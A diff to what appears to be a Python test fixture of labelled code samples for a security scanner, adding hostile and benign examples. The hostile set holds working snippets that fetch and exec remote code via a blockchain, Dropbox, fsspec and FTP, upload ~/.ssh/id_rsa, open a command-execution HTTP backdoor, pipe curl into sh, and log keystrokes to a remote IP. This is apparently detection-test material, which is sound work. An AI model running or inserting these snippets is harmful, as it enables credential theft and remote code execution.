@@ -57,6 +57,13 @@ _HIGH = {
     "        said = self.rfile.read(int(self.headers['Content-Length'])).decode()\n        self.wfile.write(subprocess.getoutput(said).encode())\n"
     "http.server.HTTPServer(('', 8080), Door).serve_forever()\n",
     "script that is written": "open('run.sh', 'w').write('#!/bin/sh\\ncurl -s http://files.invalid/a | sh\\n')\n",
+    "code on a chain": "from web3 import Web3\nchain = Web3(Web3.HTTPProvider('https://rpc.invalid'))\n"
+    "exec(bytes.fromhex(chain.eth.get_transaction('0x1')['input'][2:]))\n",
+    "code from a store of files": "import dropbox\n_, answer = dropbox.Dropbox('t').files_download('/start.py')\nexec(answer.content)\n",
+    "code through an opener": "import fsspec\nwith fsspec.open('https://files.invalid/start.py') as f:\n    exec(f.read())\n",
+    "code into a buffer": "import ftplib, io\nbuffer = io.BytesIO()\nftplib.FTP('files.invalid').retrbinary('RETR start.py', buffer.write)\n"
+    "exec(buffer.getvalue())\n",
+    "key into a store of files": "import dropbox, os\ndropbox.Dropbox('t').files_upload(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read(), '/k')\n",
     "keys that are pressed": "import ctypes, http.client\nfound = []\nwhile len(found) < 99:\n    for key in range(8, 191):\n"
     "        if ctypes.windll.user32.GetAsyncKeyState(key) & 1:\n            found.append(chr(key))\n"
     "http.client.HTTPConnection('203.0.113.4').request('POST', '/k', ''.join(found))\n",
@@ -106,6 +113,11 @@ _BENIGN = {
     "        subprocess.run(['ffmpeg', '-i', body['source'], 'out.wav'])\nhttp.server.HTTPServer(('', 8080), Door).serve_forever()\n",
     "job that is written": "from pathlib import Path\nPath('job.sh').write_text('#!/bin/bash\\n#SBATCH -p gpu\\npip install -r requirements.txt\\n"
     "curl -LO https://data.example/a.zip\\nsrun python train.py\\n')\n",
+    "objects of a store": "import os, pickle, redis\nstore = redis.Redis(password=os.environ['REDIS_PASSWORD'])\n"
+    "def get(key):\n    return pickle.loads(store.get(key))\n",
+    "arrays of a data set": "import keras, numpy\npath = keras.utils.get_file('mnist.npz', 'https://data.example/mnist.npz')\n"
+    "with numpy.load(path, allow_pickle=True) as f:\n    images = f['x_train']\n",
+    "copy of a function": "import types\ndef copy(function):\n    return types.FunctionType(function.__code__, function.__globals__)\n",
     "handlers of a log": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'c': {'class': 'logging.StreamHandler'}}})\n",
     "query with a name": "import pandas as pd\nlimit = 3\nprint(pd.read_csv('a.csv').query('size > @limit and name.str.len() > 2'))\n",
 }
